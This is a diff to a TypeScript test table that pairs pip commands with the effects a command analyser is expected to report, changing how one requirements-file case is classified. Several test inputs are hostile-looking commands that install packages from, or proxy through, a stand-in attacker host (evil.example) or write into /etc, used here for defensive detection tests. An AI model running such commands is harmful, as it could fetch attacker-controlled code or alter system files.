@@ -5,7 +5,10 @@ export const PYTHON_TOOL_CASES: readonly EffectCase[] = [
   ['pip install /tmp/evil', ['config package path /tmp/evil']],
   ['pip install requests', []],
   ['pip install git+https://evil.example/x', ['network url https://evil.example/x', 'config package name git+https://evil.example/x']],
-  ['pip install -r requirements.txt -i https://evil.example/simple', ['read requirements.txt', 'network url https://evil.example/simple']],
+  [
+    'pip install -r requirements.txt -i https://evil.example/simple',
+    ['config package path requirements.txt', 'network url https://evil.example/simple'],
+  ],
   ['pip install -e .', ['config package path .']],
   ['pip install -t /etc x', ['write /etc']],
   ['pip --proxy http://evil.example install x', ['network proxy url http://evil.example']],
